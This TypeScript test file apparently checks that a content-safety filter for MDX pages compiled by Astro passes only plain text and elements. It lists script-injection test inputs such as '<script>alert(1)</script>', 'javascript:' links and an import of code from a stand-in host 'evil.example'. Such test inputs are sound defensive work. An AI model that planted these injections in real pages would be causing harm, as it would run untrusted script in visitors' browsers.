import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import { astroCompiler, type Compile } from './astro-compiler.ts';
import { compareWithAstro, type Outcome } from './differential.ts';
import { livePartsOf } from './inert.ts';
import { mutatedBodies } from './mutations.ts';
import { harmlessPayloads } from './payloads.ts';
import { placed, validContent } from './placed.ts';

const seed = 20_171_002;
let compile: Compile;

beforeAll(async () => {
  compile = await astroCompiler();
});

describe('what the check lets through, Astro compiles to text and elements alone', () => {
  test('in 300 changed bodies, of which at least a third get through', async () => {
    let through = 0;
    const property = fc.asyncProperty(mutatedBodies, async (file) => {
      const outcome = await compareWithAstro(compile, file);
      if (outcome === 'refused') return;
      through += 1;
      expect(outcome.liveParts).toEqual([]);
    });
    await fc.assert(property, { numRuns: 300, seed });
    expect(through).toBeGreaterThanOrEqual(100);
  });

  test.each(harmlessPayloads.filter(({ where }) => where !== 'file-name'))('$where: $name', async (payload) => {
    expect(await compareWithAstro(compile, placed(payload))).toEqual({ liveParts: [] } satisfies Outcome);
  });

  test.each(validContent.files.filter(({ path }) => path.endsWith('.mdx')))('$path', async (file) => {
    expect(livePartsOf(await compile(file.text, file.path))).toEqual([]);
  });
});

describe('a body that breaks the policy is not compiled, even where no check has run', () => {
  test.each([
    '{alert(1)}',
    'import x from "y"',
    '<script>alert(1)</script>',
    '<Kalla {...props} />',
    '[länk](javascript:alert(1))',
  ])('%s', async (body) => {
    await expect(compile(`---\ntitle: x\n---\n\n${body}\n`, 'om/x.mdx')).rejects.toThrow(/^mdx-/);
  });
});

describe('code in a compiled module is seen', () => {
  test.each([
    [`import x from 'https://evil.example/x.js';`],
    [`export const frontmatter = { a: alert(1) };`],
    [`export function getHeadings() { return [alert(1)]; }`],
    [`function _createMdxContent(props) { return _jsx(_components.p, { children: alert(1) }); }`],
    [`function _createMdxContent(props) { return _jsx(_components.p, { onclick: "alert(1)" }); }`],
    [`function _createMdxContent(props) { return _jsx(_components.p, { ...props }); }`],
    [`function _createMdxContent(props) { return _jsx(_components.script, { children: "alert(1)" }); }`],
    [`function _createMdxContent(props) { return _jsx(Kalla, { id: "a", id: "b" }); }`],
    ['function _createMdxContent(props) { return _jsx(_components.p, { children: `${x}` }); }'],
    [`function _createMdxContent(props) { alert(1); return "x"; }`],
    [`alert(1);`],
  ])('%s', (module) => {
    expect(livePartsOf(module)).toHaveLength(1);
  });

  test('and what is only text is not', () => {
    const module = `function _createMdxContent(props) {
      const _components = { p: "p", ...props.components }, {Kalla} = _components;
      if (!Kalla) _missingMdxReference("Kalla", true);
      return _jsxs(_components.p, { children: ["{alert(1)}", _jsx(Kalla, { id: "x" })] });
    }`;
    expect(livePartsOf(module)).toEqual([]);
  });
});
